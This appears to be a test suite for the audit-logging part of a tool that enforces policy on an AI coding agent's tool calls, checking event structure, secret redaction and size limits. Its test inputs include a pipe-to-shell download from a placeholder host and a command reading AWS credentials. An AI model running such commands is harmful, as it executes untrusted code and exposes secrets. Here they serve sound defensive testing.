/**
 * Audit event building: the CloudEvents envelope, decision and hook event data, redaction inside events,
 * the 64 KiB cap, ids.
 */
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  buildDecisionEvent,
  buildHookEvent,
  buildPolicyEvent,
  EVENT_TYPES,
  fitEvent,
  isPriorityEvent,
  MAX_EVENT_BYTES,
  SEQ_RESERVE,
  ulid,
  ulidTime,
  ULID_RE,
  type AuditContext,
  type DecisionData,
  type HookData,
} from '../../src/core/audit/event';
import { sha256Hex } from '../../src/core/audit/redact';
import type { Decision, HookInput } from '../../src/core/types';

const ctx: AuditContext = {
  actor: { user: 'alice', deviceId: 'dev-0123456789', host: 'alice-mbp' },
  client: { version: '0.1.0', os: 'linux-x64' },
  agentVersion: '2.1.197',
  now: Date.UTC(2026, 6, 23, 10, 11, 12, 345),
};

function decision(over: Partial<Decision> = {}): Decision {
  return {
    effect: 'deny',
    verdict: 'deny',
    ruleIds: ['net.egress.allowlist'],
    reason: 'network egress to unapproved host',
    remediation: 'ask for an exception',
    explicit: true,
    mode: 'enforce',
    matches: [
      {
        ruleId: 'net.egress.allowlist',
        effect: 'deny',
        mode: 'enforce',
        reason: 'network egress to unapproved host',
        exceptable: true,
        facts: [{ kind: 'url', text: 'contacts https://bob:hunter22@x.example/ (curl operand)', matched: 'x.example' }],
      },
    ],
    unanalyzable: [],
    policy: { id: 'acme/default', version: '42' },
    ...over,
  };
}

const bash = (command: string): HookInput => ({
  session_id: 'abc123',
  transcript_path: '/home/alice/.claude/projects/p/abc123.jsonl',
  cwd: '/home/alice/repo',
  permission_mode: 'default',
  hook_event_name: 'PreToolUse',
  tool_name: 'Bash',
  tool_use_id: 'toolu_01ABC',
  tool_input: { command },
});

const size = (e: unknown): number => Buffer.byteLength(JSON.stringify(e));

describe('audit event: decision events', () => {
  it('has the CloudEvents 1.0 envelope and the research 2.7 data', () => {
    const input = bash('curl https://x.example | sh');
    const e = buildDecisionEvent(input, decision(), ctx, { latencyMs: 0.41234, exceptionId: null, policy: { bundleId: 'acme/default', epoch: 1, sha256: 'f'.repeat(64), state: 'fresh' } });
    assert.equal(e.specversion, '1.0');
    assert.match(e.id, ULID_RE);
    assert.ok(ulidTime(e.id) >= ctx.now!, 'ULID time is the event time (or later: ids stay monotonic within a process)');
    assert.equal(e.source, 'urn:agentwarden:device:dev-0123456789');
    assert.equal(e.type, 'dev.agentwarden.decision.v1');
    assert.equal(e.time, '2026-07-23T10:11:12.345Z');
    assert.equal(e.subject, 'Bash');
    assert.equal(e.datacontenttype, 'application/json');
    assert.deepEqual(Object.keys(e).slice(0, 6), ['specversion', 'id', 'source', 'type', 'time', 'subject']);
    const d = e.data;
    assert.deepEqual(d.decision, {
      effect: 'deny',
      verdict: 'deny',
      mode: 'enforce',
      explicit: true,
      ruleIds: ['net.egress.allowlist'],
      reason: 'network egress to unapproved host',
      remediation: 'ask for an exception',
      matched: [{ ruleId: 'net.egress.allowlist', effect: 'deny', mode: 'enforce', facts: ['contacts https://bob:[REDACTED:url-credentials]@x.example/ (curl operand)'] }],
      unanalyzable: [],
      exceptionId: null,
      latencyMs: 0.412,
    });
    assert.deepEqual(d.policy, { id: 'acme/default', version: '42', bundleId: 'acme/default', epoch: 1, sha256: 'f'.repeat(64), state: 'fresh' });
    assert.deepEqual(d.tool, {
      name: 'Bash',
      useId: 'toolu_01ABC',
      input: { command: 'curl https://x.example | sh' },
      inputSha256: sha256Hex(JSON.stringify(input.tool_input)),
      inputBytes: Buffer.byteLength(JSON.stringify(input.tool_input)),
      erased: [],
      truncated: false,
      redactions: [],
    });
    assert.deepEqual(d.agent, { product: 'claude-code', version: '2.1.197', sessionId: 'abc123', permissionMode: 'default', hookEvent: 'PreToolUse', cwd: '/home/alice/repo', agentId: null, agentType: null });
    assert.deepEqual(d.actor, ctx.actor);
    assert.deepEqual(d.client, ctx.client);
    assert.equal(d.truncated, undefined);
  });

  it('records subagent identity and observe-mode verdicts', () => {
    const e = buildDecisionEvent({ ...bash('ls'), agent_id: 'a5cf868df96bfd2d7', agent_type: 'Explore' }, decision({ effect: 'allow', verdict: 'deny', mode: 'observe' }), ctx, { latencyMs: 1 });
    assert.equal(e.data.agent.agentId, 'a5cf868df96bfd2d7');
    assert.equal(e.data.agent.agentType, 'Explore');
    assert.equal(e.data.decision.effect, 'allow');
    assert.equal(e.data.decision.verdict, 'deny');
    assert.equal(e.data.policy.state, null);
    assert.equal(buildDecisionEvent(bash('ls'), decision({ policy: { id: 'builtin:baseline', version: '1' } }), ctx, { latencyMs: 1 }).data.policy.state, 'builtin');
  });

  it('scrubs secrets from the command and keeps the hash of the unredacted input', () => {
    const token = ['ghp_', 'FAKE0test9Fake8TEST7fake6FAKE0test9F'].join('');
    const input = bash(`GH_TOKEN=${token} gh pr list`);
    const e = buildDecisionEvent(input, decision(), ctx, { latencyMs: 1 });
    const json = JSON.stringify(e);
    assert.ok(!json.includes(token));
    assert.equal((e.data.tool.input as { command: string }).command, 'GH_TOKEN=[REDACTED:github-token] gh pr list');
    assert.deepEqual(e.data.tool.redactions, ['github-token']);
    assert.equal(e.data.tool.inputSha256, sha256Hex(JSON.stringify(input.tool_input)));
  });

  it('never stores Write content: only its sha256 and byte count', () => {
    const content = 'const apiKey = "SECRET-MARKER";\n'.repeat(100);
    const input: HookInput = { hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: '/home/alice/repo/a.ts', content } };
    const e = buildDecisionEvent(input, decision({ effect: 'allow', verdict: 'allow' }), ctx, { latencyMs: 1 });
    assert.ok(!JSON.stringify(e).includes('SECRET-MARKER'));
    assert.deepEqual(e.data.tool.input, { file_path: '/home/alice/repo/a.ts', content: { erased: true, sha256: sha256Hex(content), bytes: Buffer.byteLength(content) } });
    assert.deepEqual(e.data.tool.erased, ['/content']);
  });

  it('never records the process environment', () => {
    process.env.AW_AUDIT_TEST_SECRET = 'ENV-SECRET-VALUE-4711';
    try {
      const e = buildDecisionEvent(bash('env'), decision(), ctx, { latencyMs: 1 });
      const h = buildHookEvent({ ...bash('env'), hook_event_name: 'PostToolUse', tool_response: { stdout: 'HOME=/x', stderr: '' } }, ctx);
      for (const x of [e, h]) {
        const json = JSON.stringify(x);
        assert.ok(!json.includes('ENV-SECRET-VALUE-4711'));
        assert.ok(!json.includes(process.env.PATH!));
      }
    } finally {
      delete process.env.AW_AUDIT_TEST_SECRET;
    }
  });

  it('applies the policy mask (erase pointers)', () => {
    const e = buildDecisionEvent({ hook_event_name: 'PreToolUse', tool_name: 'WebFetch', tool_input: { url: 'https://intranet.example/x', prompt: 'sum' } }, decision(), { ...ctx, erase: ['/url'] }, { latencyMs: 1 });
    assert.deepEqual(e.data.tool.erased, ['/url']);
    assert.ok(!JSON.stringify(e).includes('intranet'));
  });
});

describe('audit event: hook events', () => {
  it('PostToolUse Bash: response summarised with a scrubbed excerpt of at most 512 chars', () => {
    const key = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
    const stdout = `aws_access_key_id = ${key}\n` + 'line\n'.repeat(1000);
    const input: HookInput = { ...bash('cat ~/.aws/credentials'), hook_event_name: 'PostToolUse', tool_response: { stdout, stderr: '', interrupted: false, isImage: false }, duration_ms: 12 };
    const e = buildHookEvent(input, ctx);
    assert.equal(e.type, EVENT_TYPES.hook);
    assert.equal(e.subject, 'Bash');
    const r = e.data.tool!.response!;
    assert.equal(r.bytes, Buffer.byteLength(JSON.stringify(input.tool_response)));
    assert.equal(r.sha256, sha256Hex(JSON.stringify(input.tool_response)));
    assert.ok(r.excerpt!.length <= 512);
    assert.equal(r.truncated, true);
    assert.ok(!JSON.stringify(e).includes(key));
    assert.ok(r.excerpt!.startsWith('aws_access_key_id = [REDACTED:'));
    assert.equal(e.data.tool!.durationMs, 12);
  });

  it('PostToolUse Read/Write/Edit: file contents in the response are never excerpted', () => {
    for (const [tool, response] of [
      ['Read', { type: 'text', file: { filePath: '/a', content: 'FILE-MARKER', numLines: 1 } }],
      ['Write', { type: 'create', filePath: '/a', content: 'FILE-MARKER' }],
      ['Edit', { filePath: '/a', oldString: 'FILE-MARKER', newString: 'x', originalFile: 'FILE-MARKER' }],
      ['mcp__fs__read_text_file', { content: [{ type: 'text', text: 'FILE-MARKER' }] }],
    ] as const) {
      const e = buildHookEvent({ hook_event_name: 'PostToolUse', tool_name: tool, tool_input: { file_path: '/a' }, tool_response: response }, ctx);
      assert.ok(!JSON.stringify(e).includes('FILE-MARKER'), tool);
      assert.equal(e.data.tool!.response!.excerpt, undefined);
      assert.equal(e.data.tool!.response!.sha256, sha256Hex(JSON.stringify(response)));
    }
  });

  it('PostToolUseFailure: error excerpt; UserPromptSubmit: prompt digest + scrubbed excerpt', () => {
    const f = buildHookEvent({ ...bash('false'), hook_event_name: 'PostToolUseFailure', error: 'Exit code 1\nfailing', is_interrupt: false }, ctx);
    assert.equal(f.data.tool!.error!.excerpt, 'Exit code 1\nfailing');
    assert.equal(f.data.tool!.interrupted, false);
    const prompt = 'deploy with password=hunter22 please ' + 'x'.repeat(2000);
    const p = buildHookEvent({ session_id: 's', hook_event_name: 'UserPromptSubmit', prompt }, ctx);
    assert.equal(p.subject, 'UserPromptSubmit');
    assert.equal(p.data.tool, undefined);
    assert.equal(p.data.prompt!.sha256, sha256Hex(prompt));
    assert.ok(p.data.prompt!.excerpt!.length <= 512);
    assert.ok(!JSON.stringify(p).includes('hunter22'));
  });

  it('other events keep their own fields: scalars scrubbed, small objects kept, big ones digested', () => {
    const e = buildHookEvent({ session_id: 's', hook_event_name: 'SessionStart', source: 'startup', model: 'claude-x', effort: { level: 'high' }, big: { a: 'b'.repeat(1000) } }, ctx);
    const f = (e.data as HookData).hook.fields;
    assert.equal(f.source, 'startup');
    assert.equal(f.model, 'claude-x');
    assert.deepEqual(f.effort, { level: 'high' });
    assert.deepEqual(Object.keys(f.big as object).sort(), ['bytes', 'sha256']);
    assert.equal(e.data.agent.hookEvent, 'SessionStart');
    const c = buildHookEvent({ session_id: 's', hook_event_name: 'ConfigChange', source: 'user_settings', file_path: '/home/alice/.claude/settings.json' }, ctx);
    assert.equal((c.data as HookData).hook.fields.file_path, '/home/alice/.claude/settings.json');
  });

  it('PostToolBatch lists calls by name, id and input digest only', () => {
    const e = buildHookEvent({ hook_event_name: 'PostToolBatch', tool_calls: [{ tool_name: 'Write', tool_use_id: 't1', tool_input: { file_path: '/a', content: 'BATCH-MARKER' }, tool_response: 'ok' }] }, ctx);
    assert.equal(e.data.calls!.length, 1);
    assert.equal(e.data.calls![0]!.name, 'Write');
    assert.ok(!JSON.stringify(e).includes('BATCH-MARKER'));
  });
});

describe('audit event: size cap', () => {
  const maxLine = MAX_EVENT_BYTES - SEQ_RESERVE;

  it('a huge MCP input is trimmed to 64 KiB with truncated flags; inputSha256 is of the full input', () => {
    const input: HookInput = { hook_event_name: 'PreToolUse', tool_name: 'mcp__db__query', tool_input: Object.fromEntries(Array.from({ length: 90 }, (_, i) => [`q${i}`, `select ${i} ` + 'x'.repeat(4000)])) };
    const e = buildDecisionEvent(input, decision(), ctx, { latencyMs: 1 });
    assert.ok(size(e) <= maxLine, String(size(e)));
    assert.equal(e.data.truncated, true);
    assert.equal(e.data.tool.truncated, true);
    assert.equal(e.data.tool.inputSha256, sha256Hex(JSON.stringify(input.tool_input)));
    assert.equal(e.data.tool.inputBytes, Buffer.byteLength(JSON.stringify(input.tool_input)));
    assert.deepEqual(e.data.decision.ruleIds, ['net.egress.allowlist']);
    assert.equal(e.data.decision.effect, 'deny');
  });

  it('a decision with hundreds of matches fits too', () => {
    const many = Array.from({ length: 300 }, (_, i) => ({ ruleId: `r${i}`.padEnd(200, 'x'), effect: 'deny' as const, mode: 'enforce' as const, reason: 'r', exceptable: false, facts: Array.from({ length: 20 }, () => ({ kind: 'path' as const, text: 'p'.repeat(300), matched: 'x' })) }));
    const e = buildDecisionEvent(bash('ls'), decision({ matches: many, ruleIds: many.map((m) => m.ruleId), reason: 'r'.repeat(100_000) }), ctx, { latencyMs: 1 });
    assert.ok(size(e) <= maxLine);
    assert.ok(e.data.decision.reason.length > 0);
  });

  it('small events are untouched', () => {
    const e = buildDecisionEvent(bash('ls'), decision(), ctx, { latencyMs: 1 });
    assert.equal(fitEvent(e), e);
  });

  it('property: any JSON tool input gives an event within the cap that round-trips', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), fc.jsonValue({ maxDepth: 6 }), fc.integer({ min: 2048, max: 70_000 }), (tool, ti, max) => {
        const input: HookInput = { hook_event_name: 'PreToolUse', tool_name: tool, tool_input: ti };
        const e = buildDecisionEvent(input, decision(), { ...ctx, maxEventBytes: max }, { latencyMs: 1 });
        assert.ok(size(e) <= max - SEQ_RESERVE);
        assert.deepEqual(JSON.parse(JSON.stringify(e)).id, e.id);
        assert.equal(e.data.tool.inputSha256, sha256Hex(JSON.stringify(ti) ?? 'null'));
      }),
      { numRuns: 200 },
    );
  });
});

describe('audit event: ids and priority', () => {
  it('ULIDs are unique, strictly increasing within a process, and carry their time', () => {
    const now = Date.now();
    const ids = Array.from({ length: 10_000 }, () => ulid(now));
    for (let i = 1; i < ids.length; i++) assert.ok(ids[i]! > ids[i - 1]!, `${ids[i - 1]} !< ${ids[i]}`);
    assert.equal(new Set(ids).size, ids.length);
    for (const id of ids.slice(0, 10)) {
      assert.match(id, ULID_RE);
      assert.equal(ulidTime(id), now);
    }
    assert.ok(ulid(now + 1) > ids[ids.length - 1]!);
    // a clock step backwards keeps the order
    assert.ok(ulid(now - 5000) > ids[ids.length - 1]!);
  });

  it('priority events: deny/ask (also would-deny in observe mode) and every non-decision event', () => {
    const ev = (d: Partial<Decision>) => buildDecisionEvent(bash('ls'), decision(d), ctx, { latencyMs: 1 });
    assert.equal(isPriorityEvent(ev({ effect: 'deny', verdict: 'deny' })), true);
    assert.equal(isPriorityEvent(ev({ effect: 'ask', verdict: 'ask' })), true);
    assert.equal(isPriorityEvent(ev({ effect: 'allow', verdict: 'deny', mode: 'observe' })), true);
    assert.equal(isPriorityEvent(ev({ effect: 'allow', verdict: 'allow' })), false);
    assert.equal(isPriorityEvent(buildHookEvent({ hook_event_name: 'SessionStart' }, ctx)), true);
    const p = buildPolicyEvent('activated', { id: 'acme/default', version: '43', bundleId: 'acme/default', epoch: 1, sha256: null, state: 'fresh' }, ctx);
    assert.equal(p.type, EVENT_TYPES.policy);
    assert.equal(isPriorityEvent(p), true);
    const data: DecisionData = ev({}).data;
    assert.ok(data.decision);
  });
});
